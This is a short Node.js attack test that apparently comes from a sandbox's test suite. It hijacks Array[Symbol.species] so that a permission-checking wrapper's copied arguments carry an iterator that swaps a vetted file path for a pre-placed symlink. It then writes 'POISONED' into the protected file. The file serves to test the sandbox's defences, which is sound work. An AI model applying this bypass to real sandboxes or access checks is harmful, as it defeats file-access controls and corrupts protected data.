/* @attack {"title": "redefine Array[Symbol.species]: the callback wrapper's args.slice() builds the sleeve's own Array subclass, whose iterator swaps the checked path for the pre-placed symlink when the wrapper spreads it into the real fs.open; then write through the fd", "setup": ["abs-symlink-to-lakehouse"]} */
import fs from 'node:fs';
const dir = process.env.SLEEVE_RUN_DIR;
for (let i = 0; i < 400 && !fs.existsSync(`${dir}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
const innocent = `${dir}/innocent.csv`;
const lake = `${dir}/lake.csv`;
class Swapping extends Array {
  *[Symbol.iterator]() {
    for (let i = 0; i < this.length; i++) yield this[i] === innocent ? lake : this[i];
  }
}
const species = Object.getOwnPropertyDescriptor(Array, Symbol.species);
let hijacked = false;
let pending;
try {
  Object.defineProperty(Array, Symbol.species, { get: () => Swapping, configurable: true });
  hijacked = true;
} catch {
  // non-configurable: the open below is then of the innocent file
}
try {
  pending = new Promise((resolve, reject) => fs.open(innocent, 'r+', (err, fd) => (err ? reject(err) : resolve(fd))));
} finally {
  if (hijacked) Object.defineProperty(Array, Symbol.species, species);
}
try {
  const fd = await pending;
  fs.writeSync(fd, 'POISONED', 0);
  fs.closeSync(fd);
} catch (error) {
  // r+ on the missing innocent file: the swap did not happen
  if (error.code !== 'ENOENT') throw error;
}
// What the trick must not amount to: the plain open, which must be refused.
fs.closeSync(fs.openSync(lake, 'r+'));
